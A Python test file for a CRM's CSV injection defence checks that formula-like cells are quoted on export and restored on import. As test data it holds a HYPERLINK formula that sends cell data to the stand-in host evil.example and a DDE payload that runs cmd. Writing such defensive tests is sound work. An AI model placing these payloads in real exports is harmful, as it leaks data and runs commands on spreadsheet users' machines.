"""CSV injection: every cell the store exports that a spreadsheet would run as a formula is written with a
single quote in front (OWASP), and the customer import takes exactly that quote off again."""

from __future__ import annotations

import csv
import dataclasses
import io
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from crm_core.csv.calls import CALL_CSV_COLUMNS
from crm_core.csv.lines import csv_line
from crm_core.domain.calls import WrapUp
from crm_core.domain.customers import CustomerDraft, ImportSummary, RejectedLine
from crm_core.domain.spreadsheet_cells import FORMULA_STARTS, neutralised, restored
from crm_core.sql.store import SqlStore
from routing.records import CallRecord

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DDE = "-2+3+cmd|' /C calc'!A0"


def starts_a_formula(cell: str) -> bool:
    """What a spreadsheet would evaluate: a formula character first, and more than a plain number."""
    return cell[:1] in tuple(FORMULA_STARTS) and not re.fullmatch(r"[+-]?[0-9]+(\.[0-9]+)?", cell)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+cmd", "'+1+cmd"),
        (DDE, "'" + DDE),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=1", "''=1"),  # a quote the value had is told from the one the export adds
        ("''@x", "'''@x"),
        ("+14155550123", "+14155550123"),  # a plain number runs nothing: E.164 stays as it is
        ("-12.50", "-12.50"),
        ("+1 415 555 0123", "'+1 415 555 0123"),  # not a plain number
        ("1-800-FLOWERS", "1-800-FLOWERS"),
        ("it's", "it's"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_given_a_cell_when_written_then_formulas_alone_get_a_quote_and_read_back_as_they_were(
    value: str, written: str
) -> None:
    assert neutralised(value) == written
    assert restored(written) == value
    (record,) = csv.reader(io.StringIO(csv_line([value]), newline=""))
    assert record == [written]


@settings(max_examples=2000, deadline=None)
@given(st.text(st.sampled_from("=+-@\t\r'0123456789.a ")) | st.text())
def test_given_any_text_when_neutralised_then_no_formula_starts_and_restored_gives_it(
    value: str,
) -> None:
    written = neutralised(value)
    assert not starts_a_formula(written)
    assert written in (value, "'" + value)
    assert restored(written) == value


async def test_given_calls_with_formula_names_and_notes_when_exported_then_quoted_and_numbers_kept(
    store: SqlStore, answered_call: CallRecord
) -> None:
    await store.record(
        dataclasses.replace(answered_call, caller_name=HYPERLINK, caller_number="+1-2+3"), None
    )
    await store.calls.wrap_up(answered_call.call, WrapUp("sale", DDE))

    rows = list(csv.reader(io.StringIO("".join([line async for line in store.calls.export_csv()]))))

    call = dict(zip(CALL_CSV_COLUMNS, rows[1], strict=True))
    assert (call["caller_name"], call["agent_notes"]) == ("'" + HYPERLINK, "'" + DDE)
    assert call["caller_number"] == "'+1-2+3"  # not a number as the PBX gave it: quoted like any text
    assert call["did"] == "+18005550100"  # E.164: a plain number, as it is
    assert not any(starts_a_formula(cell) for row in rows for cell in row)


async def test_given_customers_with_formulas_when_exported_and_imported_elsewhere_then_the_same_customers(
    store: SqlStore,
) -> None:
    await store.customers.create(
        CustomerDraft(
            name=HYPERLINK,
            company="@acme",
            notes=DDE,
            tags=["=vip", "+x"],
            external_id="-7",
            phones=[("+14155550177", "home")],
        )
    )
    await store.customers.create(CustomerDraft(name="'=already quoted", phones=[("+14155550178", "home")]))
    before = [c.profile for c in (await store.customers.search("")).items]
    exported = "".join([line async for line in store.customer_csv.export_csv()])
    for customer in (await store.customers.search("")).items:
        await store.customers.delete(customer.id)

    rejected: list[RejectedLine] = []
    summary = await store.customer_csv.import_csv(
        io.StringIO(exported, newline=""), on_rejected=rejected.append
    )

    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
    assert {"'" + HYPERLINK, "'@acme", "'" + DDE, "'=vip;+x", "''=already quoted"} <= set(cells)
    assert not any(starts_a_formula(cell) for cell in cells)
    assert (summary, rejected) == (ImportSummary(inserted=2), [])
    assert [c.profile for c in (await store.customers.search("")).items] == before
    assert "".join([line async for line in store.customer_csv.export_csv()]) == exported
